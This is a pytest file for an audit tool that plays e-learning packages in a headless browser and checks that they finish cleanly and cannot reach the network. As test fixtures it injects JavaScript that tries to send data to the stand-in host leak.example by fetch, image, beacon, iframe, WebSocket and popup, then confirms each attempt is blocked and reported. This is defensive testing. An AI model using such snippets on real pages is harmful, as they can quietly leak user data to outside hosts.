"""What a package does in a real browser with the network shut: every screen is walked, every way out is told."""

import shutil
from pathlib import Path

import pytest

from audit.draft import Draft
from audit.test_withdraw import filmed, withdrawn
from scormpack.app.play import play
from scormpack.audit.played import Played
from starter import Starter

__all__ = ["filmed"]
needs_browser = pytest.mark.skipif(shutil.which("chromium") is None, reason="chromium is not installed")
pytestmark = needs_browser

CASES = {
    "fetch": ("window.fetch('https://leak.example/a').catch(() => null);", "connect-src"),
    "a picture": ("new Image().src = 'https://leak.example/a.png';", "img-src"),
    "a beacon": ("navigator.sendBeacon('https://leak.example/a', 'words');", "connect-src"),
    "a frame": (
        "document.body.appendChild(document.createElement('iframe')).src = 'https://leak.example/';",
        "frame-src",
    ),
}


def changed(
    good: dict[str, Path], folder: Path, script: str, *, open_policy: bool = False, format_: str = "scorm12"
) -> Played:
    draft = Draft.of(good[format_])
    draft.script(f"document.addEventListener('DOMContentLoaded', () => {{ {script} }});")
    if open_policy:
        text = draft.files["index.html"].decode()
        start = text.index('<meta http-equiv="Content-Security-Policy"')
        draft.files["index.html"] = (text[:start] + text[text.index(">", start) + 1 :]).encode()
    return play(draft.save(folder / "package.zip"))


def whole(*names: str, quick: tuple[str, ...]) -> list[object]:
    """The names, those that are not quick for the whole matrix alone."""
    return [name if name in quick else pytest.param(name, marks=pytest.mark.full) for name in names]


@pytest.mark.parametrize("format_", whole("scorm12", "scorm2004", "xapi", "cmi5", "standalone", quick=("scorm12",)))
def test_our_packages_are_walked_to_the_end_and_never_leave(good: dict[str, Path], format_: str) -> None:
    played = play(good[format_])
    assert [name.partition(":")[0] for name in played.screens] == ["watch", "do-well", "my-card"]
    assert played.findings.in_order() == ()
    if format_ != "standalone":
        assert len(played.completed) == 1


@pytest.mark.parametrize("way", whole(*CASES, quick=()))
def test_the_pages_own_policy_stops_it_and_it_is_told(good: dict[str, Path], tmp_path: Path, way: str) -> None:
    script, rule = CASES[way]
    played = changed(good, tmp_path, script)
    assert any(rule in words and "leak.example" in words for words in played.violations), played
    assert "A103" in {finding.code.id for finding in played.findings.errors}


def test_without_a_policy_every_way_out_is_shut_and_told(good: dict[str, Path], tmp_path: Path) -> None:
    ways = [*(script for script, _ in CASES.values()), "new WebSocket('wss://leak.example/');"]
    script = " ".join(f"try {{ {script} }} catch (error) {{}}" for script in ways)
    played = changed(good, tmp_path, f"{script} window.open('https://leak.example/window');", open_policy=True)
    told = "\n".join(played.blocked)
    for words in (
        "GET https://leak.example/a",
        "a.png",
        "wss://leak.example/",
        "another window",
        "POST https://leak.example",
    ):
        assert words in told, told
    assert {finding.code.id for finding in played.findings.errors} == {"A101"}, played.errors


@pytest.mark.full
def test_a_script_that_fails_is_told(good: dict[str, Path], tmp_path: Path) -> None:
    played = changed(good, tmp_path, "setTimeout(() => { throw new Error('it broke'); }, 0);")
    assert [finding.code.id for finding in played.findings.errors] == ["A102"]
    assert played.errors == ("it broke",)


@pytest.mark.full
def test_a_page_of_another_maker_is_walked_by_its_buttons(tmp_path: Path) -> None:
    from zips import SCORM12, write_zip

    page = "<!doctype html><html lang='en'><title>One</title><body><h1>{}</h1>{}</body></html>"
    files = {
        "imsmanifest.xml": SCORM12.replace('href="two/index.html"', 'href="second.html"'),
        "index.html": page.format("First", "<a href='second.html'>Next page</a>"),
        "second.html": page.format("Second", ""),
    }
    played = play(write_zip(tmp_path / "other.zip", files))
    assert played.screens == ("index.html: First", "second.html: Second")
    assert played.findings.in_order() == ()


def test_a_rebuilt_module_after_a_withdrawal_plays_to_completion(filmed: Starter) -> None:
    played = play(withdrawn(filmed).built[0].path)
    assert [name.partition(":")[0] for name in played.screens] == ["do-well", "story", "my-card"]
    assert played.findings.in_order() == ()
    assert played.completed == ("my-course-one",)
